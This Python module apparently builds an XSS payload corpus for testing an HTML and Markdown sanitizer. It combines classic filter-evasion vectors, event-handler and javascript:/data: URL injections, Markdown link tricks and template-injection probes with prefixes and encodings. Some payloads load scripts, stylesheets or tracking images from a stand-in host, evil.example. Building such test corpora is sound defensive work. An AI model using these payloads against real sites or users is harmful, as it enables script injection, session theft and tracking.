"""Our own XSS corpus: hand-written seeds (classic vectors, every dangerous tag x event handler, script URLs in
every URL attribute, template and Markdown-specific cases) multiplied by contexts and encodings.

There is no internet access where the suite runs, so no public collection is downloaded: these seeds are
written from the well-known families of vectors (OWASP XSS filter evasion cheat sheet, HTML5 Security
Cheatsheet, PortSwigger's XSS cheat sheet families), not copied from them.
"""

from __future__ import annotations

from functools import cache

TAGS = ("script", "img", "svg", "iframe", "body", "details", "video", "audio", "input", "a", "math", "object",
        "embed", "style", "marquee", "form", "button", "select", "textarea", "base", "link", "meta", "frameset",
        "template", "noscript", "image", "source", "track", "div", "p")
HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin", "onanimationstart",
            "onpointerenter")
SCRIPT_URLS = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java&#x09;script:alert(1)",
               "&#106;avascript:alert(1)", "&#x6A;&#x61;&#x76;&#x61;script:alert(1)", " javascript:alert(1)",
               "javascript&colon;alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
               "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "jav&#0000097;script:alert(1)")
URL_CONTEXTS = ('<a href="{u}">x</a>', '<iframe src="{u}"></iframe>', '<form action="{u}"><button>x</button></form>',
                '<button formaction="{u}">x</button>', '<svg><a xlink:href="{u}"><text>x</text></a></svg>',
                '<object data="{u}"></object>', '<embed src="{u}">', "<img src='{u}'>")
CLASSICS = (
    "<script>alert(1)</script>", '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", '<img src="x" onerror="alert(1)">', "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>", '<style>@import "https://evil.example/x.css";</style>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">', '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "<img src=x:alert(1) onerror=eval(src)>",
    "<svg><script>alert(1)</script></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<div style=\"background:url(javascript:alert(1))\">",
    '<div style="width:expression(alert(1))">', "<x onclick=alert(1)>click",
    "<a href=\"https://evil.example\" ping=\"https://t.example\">x</a>",
    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</script><script>alert(1)</script>",
    "<img src=https://evil.example/track.gif>", "<img srcset=\"https://evil.example/a.png 1x\">",
    "<video><source onerror=alert(1)>", "<body background=javascript:alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=onmouseover to=alert(1)>",
    "{{7*7}}", "{{ config }}", "{% raw %}{{ 7*7 }}{% endraw %}", "${alert(1)}", "#{alert(1)}", "<%= 7*7 %>",
    "\u2028<script>alert(1)</script>", "<scrİpt>alert(1)</scrİpt>", "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>", "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">", "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"https://evil.example/xss.js\"></SCRIPT>", "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>", "<SCRIPT SRC=https://evil.example/xss.js?< B >",
    "<iframe src=https://evil.example/ <", "\\\";alert('XSS');//", "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">", "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg><foreignObject><iframe src=javascript:alert(1)>", "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<form><button formaction=javascript:alert(1)>x", "<isindex type=image src=1 onerror=alert(1)>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<template><script>alert(1)</script></template>", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
)
MARKDOWN = (
    "[click](javascript:alert(1))", "![x](javascript:alert(1))", "[x](JAVASCRIPT:alert(1))", "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](&#106;avascript:alert(1))", "[x](java%0ascript:alert(1))", "[a](<javascript:alert(1)>)",
    "[a](javascript&#58;alert(1))", "[a](\\javascript:alert(1))", "![x](https://evil.example/track.gif)",
    "[x](https://evil.example \"title\\\" onmouseover=alert(1)\")", "```html\n<script>alert(1)</script>\n```",
    "<details open ontoggle=alert(1)>", "[![img](javascript:alert(1))](javascript:alert(2))",
    "*<img src=x onerror=alert(1)>*", "**[x](javascript:alert(1))**", "> <script>alert(1)</script>",
    "- [x](vbscript:msgbox(1))", "| a |\n|---|\n| <img src=x onerror=alert(1)> |", "<https://evil.example/x.js>",
    "[x](//evil.example/x)", "![x](//evil.example/t.png)", "<a href=\"javascript:alert(1)\">x</a>",
    "[x]( javascript:alert(1) )", "[x](jav\tascript:alert(1))", "<!-- --><script>alert(1)</script>",
    "`<script>alert(1)</script>`", "<div markdown=\"1\">[x](javascript:alert(1))</div>",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
)
PREFIXES = ("", '">', "'>", "</textarea>", "</title>", "--><", "*", "\u200b")


def _encodings(payload: str) -> list[str]:
    return [payload, payload.upper(), payload.replace("<", "<\t", 1), payload.replace("=", " = ", 1),
            payload.replace("alert(1)", "alert`1`"), payload.replace("<", "&lt;").replace(">", "&gt;")]


@cache
def seeds() -> tuple[str, ...]:
    out = list(CLASSICS) + list(MARKDOWN)
    out += [f"<{tag} {handler}=alert(1)>" for tag in TAGS for handler in HANDLERS]
    out += [f"<{tag} src=x {handler}=\"alert(1)\"></{tag}>" for tag in TAGS[:12] for handler in HANDLERS[:3]]
    out += [context.format(u=url) for context in URL_CONTEXTS for url in SCRIPT_URLS]
    return tuple(dict.fromkeys(out))


@cache
def corpus() -> tuple[str, ...]:
    """Every seed in every context and encoding, without duplicates."""
    out = []
    for seed in seeds():
        for prefix in PREFIXES[:4]:
            out.append(prefix + seed)
        for variant in _encodings(seed)[1:]:
            out.append(variant)
    for seed in MARKDOWN + CLASSICS:
        for prefix in PREFIXES[4:]:
            out.append(prefix + seed)
    return tuple(dict.fromkeys(out))


def chunks(payloads, size: int):
    payloads = list(payloads)
    for start in range(0, len(payloads), size):
        yield payloads[start:start + size]
